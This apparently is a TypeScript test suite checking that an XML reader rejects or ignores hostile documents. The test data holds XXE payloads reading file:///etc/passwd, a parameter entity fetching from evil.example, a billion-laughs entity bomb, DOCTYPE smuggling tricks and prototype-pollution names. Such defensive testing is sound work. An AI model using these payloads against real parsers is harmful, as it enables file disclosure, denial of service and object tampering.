import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readXml } from '../../../src/protocol/values/xml.js';

const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

/**
 * Returns the content that the reader returns, or the name of its error. Any other error than a SyntaxError fails the
 * test.
 */
function read(xml: string): unknown {
  try {
    return readXml('response', xml);
  } catch (error) {
    if (!(error instanceof SyntaxError)) throw error;
    return 'SyntaxError';
  }
}

describe('an XML document', () => {
  it.each([
    ['an external entity', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><response><a>&x;</a></response>'],
    [
      'a parameter entity',
      '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/">%x;]><response><a>b</a></response>',
    ],
    ['nested entities', `<!DOCTYPE r [<!ENTITY l0 "ha">${laughs}]><response><a>&l9;</a></response>`],
    ['a document type in its root', '<response><!DOCTYPE r [<!ENTITY x "y">]><a>&x;</a></response>'],
    [
      'a document type between comments that hide it',
      '<response b="<!--"/><!DOCTYPE r [<!ENTITY x "y">]><response c="-->"><a>&x;</a></response>',
    ],
    ['two roots', '<response><a>1</a></response><response><a>2</a></response>'],
    ['a document type that hides it', '<!DOCTYPE r [<!ENTITY x "<!--">]><response><a>&x;</a><!-- --></response>'],
    ['no end', '<response>'.repeat(10_000)],
  ])('an XML document with %s is rejected', (_what, xml) => {
    expect(read(xml)).toBe('SyntaxError');
    expect({}).not.toHaveProperty('result');
  });

  it.each([
    ['an attribute list that hides it', '<!DOCTYPE r [<!ATTLIST a b CDATA "<!--"><!ENTITY x "expanded"><!-- -->]>'],
    ['an instruction that hides it', '<!DOCTYPE r [<!ATTLIST a b CDATA "<?"><!ENTITY x "expanded"><?a ?>]>'],
    ['a string with the root in it', '<!DOCTYPE r [<!ATTLIST a b CDATA "<response>"><!ENTITY x "expanded">]>'],
    ['a comment in its type', '<!DOCTYPE r [<!-- <!ENTITY x "expanded"> -->]>'],
  ])('an XML document with an entity behind %s expands nothing', (_what, type) => {
    for (const more of ['', '<!-- a -->', '<!DOCTYPE r>'])
      expect(JSON.stringify(read(`${type}${more}<response><a>&x;</a></response>`))).not.toContain('expanded');
  });

  it.each([
    '<!-- <!ENTITY x "y"> --><response><a>&x;</a></response>',
    '<?a <!ENTITY x "y"> ?><response><a>&x;</a></response>',
    '<response><!-- <!ENTITY x "y"> --><a>&x;</a></response>',
    '<response><a><![CDATA[&x;]]></a><b><![CDATA[<!DOCTYPE r [<!ENTITY x "y">]>]]></b></response>',
  ])('an XML document that only mentions a declaration is read: %s', (xml) => {
    expect(read(xml)).toMatchObject({ a: '&x;' });
  });

  it.each(['<!doctype', '<!Doctype', '<!DocType', '<! DOCTYPE', '<!\tDOCTYPE'])(
    'an XML document with a document type written as %s expands no entity',
    (spelling) => {
      const xml = `${spelling} r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "expanded">]><response><a>&x;&y;</a></response>`;
      expect(JSON.stringify(read(xml))).not.toMatch(/expanded|root:/);
    },
  );

  it.each(['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__'])(
    'an XML document with elements of the reserved name %s has its other elements, and changes no object',
    (name) => {
      const elements = `<${name}><result>101</result><${name} a="1">x</${name}></${name}><${name}/>`;
      const prefixed = elements.replaceAll(/(<\/?)/g, '$1a:');
      for (const xml of [
        `<response><result>00</result>${elements}</response>`,
        `<a:response><a:result>00</a:result>${prefixed}</a:response>`,
      ]) {
        expect(read(xml)).toHaveProperty('result', '00');
        expect(Object.hasOwn(read(xml) as object, name)).toBe(false);
      }
      expect({}).not.toHaveProperty('result');
    },
  );

  it('an XML document with attributes of reserved names changes no other object', () => {
    for (const name of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'])
      read(`<response ${name}="x"><a ${name}="y" b="c">1</a></response>`);
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(typeof {}.toString).toBe('function');
  });

  it('an XML document with 100,000 levels is rejected, or read, without another error', () => {
    expect(() => read(`<response>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</response>`)).not.toThrow();
  });

  it('an XML document with 60,000 numeric entities is rejected, or read as the characters', () => {
    const content = read(`<response><a>${'&#65;'.repeat(60_000)}</a></response>`);
    expect(['SyntaxError', 'A'.repeat(60_000)]).toContain(
      typeof content === 'string' ? content : (content as { a: string }).a,
    );
  });

  it('an XML document with an element twice has both, so that a schema for one rejects it', () => {
    expect(read('<response><result>00</result><result>101</result></response>')).toEqual({ result: ['00', '101'] });
  });

  it('an XML document of any content is read or rejected, and changes no other object', () => {
    const name = fc.constantFrom('a', 'result', '__proto__', 'constructor', 'prototype', '#text', '@a', 'response');
    const piece = fc.oneof(
      name.map((one) => `<${one}>`),
      name.map((one) => `<xmlns:${one} a:${one}="1">`),
      name.map((one) => `</${one}>`),
      name.map((one) => `<${one} ${one}="1"/>`),
      fc.constantFrom(
        '<![CDATA[',
        ']]>',
        '<!--',
        '-->',
        '&lt;',
        '&#0;',
        '&#x10FFFF;',
        '&x;',
        '<?xml?>',
        '<!DOCTYPE a>',
      ),
      fc.string({ maxLength: 5 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        read(`<response>${pieces.join('')}</response>`);
        return Object.keys(Object.prototype).length === 0 && ({} as Record<string, unknown>)['result'] === undefined;
      }),
      { seed: 20_261_121, numRuns: 2_000 },
    );
  });
});
